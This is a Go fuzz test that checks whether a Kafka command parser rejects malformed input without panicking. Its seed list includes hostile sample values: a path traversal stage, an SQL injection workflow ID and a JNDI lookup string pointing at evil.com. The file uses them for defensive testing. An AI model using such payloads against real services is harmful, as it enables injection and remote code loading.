package control

import (
	"errors"
	"testing"

	"github.com/google/uuid"

	"github.com/SampleBias/Oxidized-Bio/internal/domain"
)

// FuzzParseCommand checks that arbitrary Kafka payloads never panic and that
// accepted commands are always well formed.
func FuzzParseCommand(f *testing.F) {
	seeds := []string{
		`{"command":"cancel","workflow_id":"7d2c7f2e-8a51-4c1f-9c55-1f3f0d0c2a10"}`,
		`{"command":" RETRIGGER ","workflow_id":"7d2c7f2e-8a51-4c1f-9c55-1f3f0d0c2a10","stage":"draft"}`,
		`{"command":"retrigger","workflow_id":"7d2c7f2e-8a51-4c1f-9c55-1f3f0d0c2a10","stage":"../final"}`,
		`{"command":"drop table","workflow_id":"'; DROP TABLE jobs; --"}`,
		`{"command":null}`,
		`[]`,
		``,
		"{\"command\":\"cancel\u0000\"}",
		`{"command":"${jndi:ldap://evil.com/a}"}`,
	}
	for _, s := range seeds {
		f.Add([]byte(s))
	}

	f.Fuzz(func(t *testing.T, data []byte) {
		cmd, err := ParseCommand(data)
		if err != nil {
			if !errors.Is(err, domain.ErrInvalidInput) {
				t.Fatalf("rejection %v does not match ErrInvalidInput", err)
			}
			return
		}
		if _, err := uuid.Parse(cmd.WorkflowID); err != nil {
			t.Fatalf("accepted invalid workflow id %q", cmd.WorkflowID)
		}
		switch cmd.Command {
		case CommandCancel:
		case CommandRetrigger:
			if _, err := domain.ParseStage(cmd.Stage); err != nil {
				t.Fatalf("accepted retrigger of unknown stage %q", cmd.Stage)
			}
		default:
			t.Fatalf("accepted unknown command %q", cmd.Command)
		}
	})
}
